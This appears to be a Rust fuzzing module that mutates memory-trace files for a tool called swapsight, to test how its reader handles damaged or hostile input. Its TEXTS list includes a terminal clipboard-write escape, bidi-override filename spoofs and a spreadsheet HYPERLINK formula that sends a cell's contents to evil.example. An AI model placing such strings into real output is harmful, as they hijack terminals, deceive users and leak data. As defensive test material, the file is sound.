//! Inputs for the trace targets: real and synthetic traces (the seeds),
//! changed the ways a damaged or hostile file differs from a good one —
//! flipped bits, a cut, out-of-range and wrong-typed numbers, terminal
//! escapes and bidi overrides in its strings, deep nesting,
//! long lines, invalid UTF-8, lines repeated, swapped or dropped, runs of
//! garbage — plus raw bytes.

use proptest::prelude::*;
use proptest::sample::{select, Index};

/// Traces the mutants start from.
pub fn seeds() -> Vec<(&'static str, Vec<u8>)> {
    use swapsight::synth;
    vec![
        // Recorded on Linux: `swapsight record --interval 100ms --top 5 -- python3 memfill.py`.
        (
            "linux-record",
            include_bytes!("../seeds/linux-record.jsonl").to_vec(),
        ),
        (
            "offload",
            first_lines(&synth::to_jsonl(&synth::seed_offload()), 60),
        ),
        (
            "eager",
            first_lines(&synth::to_jsonl(&synth::seed_eager()), 60),
        ),
        (
            "to-cpu",
            first_lines(&synth::to_jsonl(&synth::seed_to_cpu()), 60),
        ),
        (
            "staged",
            first_lines(&synth::to_jsonl(&synth::seed_staged()), 30),
        ),
        ("busy", synth::to_jsonl(&synth::busy_trace(12, 8))),
        (
            "hostile-text",
            first_lines(&synth::to_jsonl(&synth::hostile_text()), 60),
        ),
    ]
}

/// The first `n` lines: the seeds stay small, so that each case is quick.
fn first_lines(bytes: &[u8], n: usize) -> Vec<u8> {
    let end = bytes
        .iter()
        .enumerate()
        .filter(|&(_, &b)| b == b'\n')
        .nth(n.saturating_sub(1))
        .map_or(bytes.len(), |(i, _)| i + 1);
    bytes[..end].to_vec()
}

/// Numbers and values that have broken readers: 2^63, 2^64−1, 2^64, 2^62,
/// 2^53 ± 1, the reader's own limits (100 years in ms, the year 9999),
/// negatives, huge and tiny floats, and values of the wrong type.
pub const VALUES: [&str; 26] = [
    "3162240000000",
    "3162240000001",
    "253402300799999",
    "100000000000",
    "9223372036854775808",
    "18446744073709551615",
    "18446744073709551616",
    "4611686018427387904",
    "9007199254740992",
    "9007199254740993",
    "-1",
    "-9223372036854775808",
    "0",
    "1",
    "1e308",
    "-1e308",
    "1e400",
    "1.5",
    "0.0001",
    "-0.0",
    "\"7\"",
    "null",
    "true",
    "[]",
    "{}",
    "\"\\ud800\"",
];

/// Strings a crafted trace holds (JSON, quotes included): an OSC 52
/// clipboard write, a screen clear, C1 CSI, bidi overrides escaped and raw, a
/// line separator, a tag, a formula.
pub const TEXTS: [&str; 9] = [
    r#""\u001b]52;c;ZXZpbA==\u0007""#,
    r#""\u001b[2J""#,
    r#""\u009b31mred""#,
    r#""evil\u202egpj.exe""#,
    "\"evil\u{202e}gpj.exe\u{2066}\"",
    r#""a\u2028b""#,
    "\"tag\u{e0041}\"",
    r#""=HYPERLINK(\"http:evil.example?d=\"&A2,\"open\")""#,
    r#""\t-1""#,
];

/// A line that is not a record.
#[derive(Debug, Clone)]
pub enum Garbage {
    Nested(usize),
    Long(usize),
    InvalidUtf8,
    Blank,
    EmptyObject,
    /// A record whose fields have the wrong types.
    WrongTypes(&'static str),
    Bytes(Vec<u8>),
}

const WRONG_TYPES: [&str; 6] = [
    r#"{"type":"sample","t_ms":1,"sys":[],"procs":{}}"#,
    r#"{"type":"sample","t_ms":-5,"sys":{"phys_bytes":1,"free_pct":1,"swap_used_bytes":1,"swap_total_bytes":1},"procs":[]}"#,
    r#"{"type":"sample","t_ms":1,"sys":{"phys_bytes":1,"free_pct":50,"swap_used_bytes":18446744073709551615,"swap_total_bytes":1},"procs":[{"pid":1,"name":"x","footprint_bytes":18446744073709551615}]}"#,
    r#"{"type":"flag","t_ms":1,"pid":1,"name":"x","state":"worse","previous":"fits","evidence":{},"message":""}"#,
    r#"{"type":"event","t_ms":"now","kind":1,"message":null}"#,
    r#"{"type":"header","format":"swapsight-trace","schema":1,"host":{"os":"linux","phys_bytes":1,"page_size":1},"interval_ms":1,"start_unix_ms":18446744073709551615}"#,
];

impl Garbage {
    fn bytes(&self) -> Vec<u8> {
        match self {
            Garbage::Nested(depth) => {
                let mut v = vec![b'['; *depth];
                v.extend(std::iter::repeat_n(b']', *depth));
                v
            }
            Garbage::Long(len) => {
                let mut v = br#"{"type":"event","t_ms":1,"kind":"x","message":""#.to_vec();
                v.extend(std::iter::repeat_n(b'a', *len));
                v.extend_from_slice(b"\"}");
                v
            }
            Garbage::InvalidUtf8 => {
                br#"{"type":"event","t_ms":1,"kind":"x","message":"\xff\xfe\xc0"}"#.to_vec()
            }
            Garbage::Blank => b"   ".to_vec(),
            Garbage::EmptyObject => b"{}".to_vec(),
            Garbage::WrongTypes(s) => s.as_bytes().to_vec(),
            Garbage::Bytes(b) => b
                .iter()
                .map(|&c| if c == b'\n' { b' ' } else { c })
                .collect(),
        }
    }
}

fn garbage() -> impl Strategy<Value = Garbage> {
    prop_oneof![
        (1usize..400).prop_map(Garbage::Nested),
        (1usize..100_000).prop_map(Garbage::Long),
        Just(Garbage::InvalidUtf8),
        Just(Garbage::Blank),
        Just(Garbage::EmptyObject),
        select(&WRONG_TYPES[..]).prop_map(Garbage::WrongTypes),
        proptest::collection::vec(any::<u8>(), 0..200).prop_map(Garbage::Bytes),
    ]
}

/// One change to a trace's bytes. Positions are [`Index`]es, resolved
/// against the bytes (or lines, or numbers) the input has when it is applied.
#[derive(Debug, Clone)]
pub enum Mutation {
    FlipBit {
        at: Index,
        bit: u8,
    },
    Truncate {
        at: Index,
    },
    SetNumber {
        which: Index,
        value: &'static str,
    },
    ReplaceLine {
        line: Index,
        with: Garbage,
    },
    InsertLine {
        line: Index,
        with: Garbage,
    },
    /// The same garbage line, `count` times (a header plus millions of `{}`).
    Repeat {
        line: Index,
        with: Garbage,
        count: usize,
    },
    /// A string value (not a key) replaced by one of [`TEXTS`].
    SetText {
        which: Index,
        value: &'static str,
    },
    DuplicateLine {
        line: Index,
    },
    SwapLines {
        a: Index,
        b: Index,
    },
    DeleteLine {
        line: Index,
    },
    InsertBytes {
        at: Index,
        bytes: Vec<u8>,
    },
}

pub fn mutation() -> impl Strategy<Value = Mutation> {
    prop_oneof![
        3 => (any::<Index>(), 0u8..8).prop_map(|(at, bit)| Mutation::FlipBit { at, bit }),
        1 => any::<Index>().prop_map(|at| Mutation::Truncate { at }),
        6 => (any::<Index>(), select(&VALUES[..]))
            .prop_map(|(which, value)| Mutation::SetNumber { which, value }),
        2 => (any::<Index>(), select(&TEXTS[..]))
            .prop_map(|(which, value)| Mutation::SetText { which, value }),
        2 => (any::<Index>(), garbage()).prop_map(|(line, with)| Mutation::ReplaceLine { line, with }),
        2 => (any::<Index>(), garbage()).prop_map(|(line, with)| Mutation::InsertLine { line, with }),
        1 => (any::<Index>(), garbage(), 1usize..2500)
            .prop_map(|(line, with, count)| Mutation::Repeat { line, with, count }),
        1 => any::<Index>().prop_map(|line| Mutation::DuplicateLine { line }),
        1 => (any::<Index>(), any::<Index>()).prop_map(|(a, b)| Mutation::SwapLines { a, b }),
        1 => any::<Index>().prop_map(|line| Mutation::DeleteLine { line }),
        1 => (any::<Index>(), proptest::collection::vec(any::<u8>(), 1..16))
            .prop_map(|(at, bytes)| Mutation::InsertBytes { at, bytes }),
    ]
}

/// Byte ranges of the lines, newline included.
fn lines(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    let mut start = 0;
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'\n' {
            out.push(start..i + 1);
            start = i + 1;
        }
    }
    if start < bytes.len() {
        out.push(start..bytes.len());
    }
    out
}

/// Byte ranges of the JSON numbers that are values (after `:`, `,` or `[`).
fn numbers(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        let starts = (bytes[i].is_ascii_digit() || bytes[i] == b'-')
            && i > 0
            && matches!(bytes[i - 1], b':' | b',' | b'[');
        if starts {
            let end = bytes[i + 1..]
                .iter()
                .position(|c| !matches!(c, b'0'..=b'9' | b'.' | b'e' | b'E' | b'+' | b'-'))
                .map_or(bytes.len(), |n| i + 1 + n);
            out.push(i..end);
            i = end;
        } else {
            i += 1;
        }
    }
    out
}

/// Byte ranges of the JSON strings that are values (after `:`, `,` or `[`
/// and not followed by `:`), quotes included.
fn strings(bytes: &[u8]) -> Vec<std::ops::Range<usize>> {
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] != b'"' {
            i += 1;
            continue;
        }
        let mut end = i + 1;
        while end < bytes.len() && bytes[end] != b'"' {
            end += if bytes[end] == b'\\' { 2 } else { 1 };
        }
        let end = (end + 1).min(bytes.len());
        let value = i > 0 && matches!(bytes[i - 1], b':' | b',' | b'[');
        if value && bytes.get(end) != Some(&b':') {
            out.push(i..end);
        }
        i = end;
    }
    out
}

fn with_newline(mut line: Vec<u8>) -> Vec<u8> {
    line.push(b'\n');
    line
}

impl Mutation {
    pub fn apply(&self, b: &mut Vec<u8>) {
        let ls = match self {
            Mutation::FlipBit { .. }
            | Mutation::Truncate { .. }
            | Mutation::SetNumber { .. }
            | Mutation::SetText { .. }
            | Mutation::InsertBytes { .. } => Vec::new(),
            _ => lines(b),
        };
        let line = |i: &Index| (!ls.is_empty()).then(|| ls[i.index(ls.len())].clone());
        match self {
            Mutation::FlipBit { at, bit } => {
                if !b.is_empty() {
                    let i = at.index(b.len());
                    b[i] ^= 1 << bit;
                }
            }
            Mutation::Truncate { at } => {
                let i = at.index(b.len() + 1);
                b.truncate(i);
            }
            Mutation::SetNumber { which, value } => {
                let ns = numbers(b);
                if !ns.is_empty() {
                    b.splice(ns[which.index(ns.len())].clone(), value.bytes());
                }
            }
            Mutation::SetText { which, value } => {
                let ss = strings(b);
                if !ss.is_empty() {
                    b.splice(ss[which.index(ss.len())].clone(), value.bytes());
                }
            }
            Mutation::ReplaceLine { line: l, with } => {
                if let Some(r) = line(l) {
                    b.splice(r, with_newline(with.bytes()));
                }
            }
            Mutation::InsertLine { line: l, with } => {
                let at = line(l).map_or(0, |r| r.start);
                b.splice(at..at, with_newline(with.bytes()));
            }
            Mutation::Repeat {
                line: l,
                with,
                count,
            } => {
                let at = line(l).map_or(0, |r| r.end);
                let one = with_newline(with.bytes());
                // Keep a case under ~1 MiB: long lines repeat fewer times.
                let count = (*count).min(1_000_000 / one.len().max(1)).max(1);
                b.splice(at..at, one.repeat(count));
            }
            Mutation::DuplicateLine { line: l } => {
                if let Some(r) = line(l) {
                    let copy = b[r.clone()].to_vec();
                    b.splice(r.start..r.start, copy);
                }
            }
            Mutation::SwapLines { a, b: c } => {
                if let (Some(x), Some(y)) = (line(a), line(c)) {
                    let (x, y) = if x.start <= y.start { (x, y) } else { (y, x) };
                    if x.end <= y.start {
                        let (lx, ly) = (b[x.clone()].to_vec(), b[y.clone()].to_vec());
                        b.splice(y, lx);
                        b.splice(x, ly);
                    }
                }
            }
            Mutation::DeleteLine { line: l } => {
                if let Some(r) = line(l) {
                    b.drain(r);
                }
            }
            Mutation::InsertBytes { at, bytes } => {
                let i = at.index(b.len() + 1);
                b.splice(i..i, bytes.iter().copied());
            }
        }
    }
}

/// A trace file's bytes: a seed with up to 6 mutations (mostly), or raw bytes.
pub fn trace_bytes() -> impl Strategy<Value = Vec<u8>> {
    let seeds = seeds();
    let n = seeds.len();
    let mutated = (0..n, proptest::collection::vec(mutation(), 0..6)).prop_map(move |(s, ms)| {
        let mut b = seeds[s].1.clone();
        for m in &ms {
            m.apply(&mut b);
        }
        b
    });
    prop_oneof![
        9 => mutated,
        1 => proptest::collection::vec(any::<u8>(), 0..2048),
    ]
}

#[cfg(test)]
#[path = "mutate_tests.rs"]
mod tests;
